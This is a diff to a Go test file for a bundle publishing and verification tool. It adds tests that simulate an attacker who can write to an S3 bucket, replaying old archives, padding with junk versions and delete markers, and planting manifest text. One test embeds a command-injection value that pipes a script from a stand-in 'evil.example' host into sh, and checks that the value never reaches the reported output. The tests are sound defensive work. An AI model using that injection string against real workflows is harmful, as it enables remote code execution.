@@ -1,13 +1,17 @@
 package publish_test
 
 import (
+	"bytes"
 	"context"
+	"crypto/sha256"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"sync"
 	"testing"
@@ -17,10 +21,14 @@ import (
 	"github.com/openclaw/clawdinator-bundle/internal/bucket"
 	"github.com/openclaw/clawdinator-bundle/internal/gate"
 	"github.com/openclaw/clawdinator-bundle/internal/layout"
+	"github.com/openclaw/clawdinator-bundle/internal/manifest"
+	"github.com/openclaw/clawdinator-bundle/internal/problem"
 	"github.com/openclaw/clawdinator-bundle/internal/publish"
+	"github.com/openclaw/clawdinator-bundle/internal/report"
 	"github.com/openclaw/clawdinator-bundle/internal/result"
 	"github.com/openclaw/clawdinator-bundle/internal/s3test"
 	"github.com/openclaw/clawdinator-bundle/internal/sample"
+	"github.com/openclaw/clawdinator-bundle/internal/verify"
 )
 
 // countingBucket counts the downloads of each object name (the last
@@ -229,6 +237,65 @@ func TestVerifyReportsRollback(t *testing.T) {
 	res := s3Verify(t, w.b, w.f, w.f.Recipient)
 	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version .* has 2000000")
 
+	// A writer without the key who first puts versions that prove nothing
+	// (cheap, tiny objects) between the newer genuine one and the replay
+	// does not push the newer one out of verify's sight.
+	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"newer")
+	w.publish(3_000_000)
+	newer, err := w.b.Head(context.Background(), k, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range verify.RollbackVersions + 2 {
+		junk := []byte(fmt.Sprintf("junk %d", i))
+		if _, err := w.b.Put(context.Background(), k, bytes.NewReader(junk), int64(len(junk)), sha256.Sum256(junk)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
+		t.Fatal(err)
+	}
+	res = s3Verify(t, w.b, w.f, w.f.Recipient)
+	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version "+regexp.QuoteMeta(problem.ShortVersion(newer.VersionID))+" has 3000000")
+
+	// More of them than verify downloads: it says the look-back was cut.
+	for i := range verify.RollbackUnproven + 1 {
+		junk := []byte(fmt.Sprintf("more junk %d", i))
+		if _, err := w.b.Put(context.Background(), k, bytes.NewReader(junk), int64(len(junk)), sha256.Sum256(junk)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
+		t.Fatal(err)
+	}
+	res = s3Verify(t, w.b, w.f, w.f.Recipient)
+	cut := false
+	for _, p := range res.Problems.Warnings() {
+		cut = cut || p.Object == k && strings.Contains(p.Message, "do not prove with the key (written without it, or before a key rotation), so a rolled-back (replayed) archive behind them would go unseen")
+	}
+	if !cut {
+		t.Errorf("no warning that versions which do not prove cut the look-back:\n%s", s3Render(res.Problems))
+	}
+
+	// Delete markers (a plain DELETE) below the replay are no versions
+	// either: they do not push the newer genuine version out of sight.
+	w.f.reencrypt(t, "clawdinator-telegram-allow-from.age", sample.Canary+"newest")
+	w.publish(4_000_000)
+	newest, err := w.b.Head(context.Background(), k, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for range verify.RollbackListed + 2 {
+		if err := w.b.Delete(context.Background(), k, ""); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := w.b.Copy(context.Background(), k, old.VersionID, k); err != nil {
+		t.Fatal(err)
+	}
+	res = s3Verify(t, w.b, w.f, w.f.Recipient)
+	s3RequireProblems(t, res, in, k, "is older than a version still in the bucket: the current statement has sequence 1000000, version "+regexp.QuoteMeta(problem.ShortVersion(newest.VersionID))+" has 4000000")
+
 	res = s3Verify(t, noVersions{w.b.S3}, w.f, w.f.Recipient)
 	found := false
 	for _, p := range res.Problems.Warnings() {
@@ -315,4 +382,46 @@ func TestPublishReusesReclonedSeeds(t *testing.T) {
 		}
 	}
 	w.requireSequence(prep, 3_000_000)
+}
+
+// TestUnchangedManifestClaimsNotOutput: an unchanged bundle keeps the
+// bucket's manifest, whose tool and source nothing checks. A writer without
+// the key who rewrites them (every checked field left as it was) must not
+// get that text into what publish reports: the manifest output reaches
+// workflow steps (action.md: "the manifests this run wrote from what it
+// proved").
+func TestUnchangedManifestClaimsNotOutput(t *testing.T) {
+	w := newSequenceWorld(t)
+	w.publish(1_000_000)
+	const evil = `x"; curl https://evil.example | sh; echo "`
+	for _, in := range sample.Instances {
+		m, _ := s3ReadManifest(t, w.b.S3, in)
+		m.Tool = manifest.Tool{Name: evil, Version: evil}
+		m.Source = manifest.Source{Repository: evil, SHA: evil, RunID: evil}
+		data, err := json.MarshalIndent(m, "", "  ")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.b.Put(context.Background(), layout.Key("bootstrap/"+in, layout.ManifestName), bytes.NewReader(data), int64(len(data)), sha256.Sum256(data)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	_, res := w.publish(2_000_000)
+	for _, ir := range res.Instances {
+		for _, o := range ir.Objects {
+			if o.Status != result.Unchanged {
+				t.Fatalf("%s %s: %s; the test needs an unchanged bundle", ir.Instance, o.Name, o.Status)
+			}
+		}
+	}
+	if out := report.ManifestOutput(res); strings.Contains(out, "evil.example") {
+		t.Errorf("the manifest output carries the bucket writer's text:\n%s", out)
+	}
+	var doc bytes.Buffer
+	if err := report.JSON(&doc, res); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(doc.String(), "evil.example") {
+		t.Errorf("publish --json carries the bucket writer's text:\n%s", doc.String())
+	}
 }
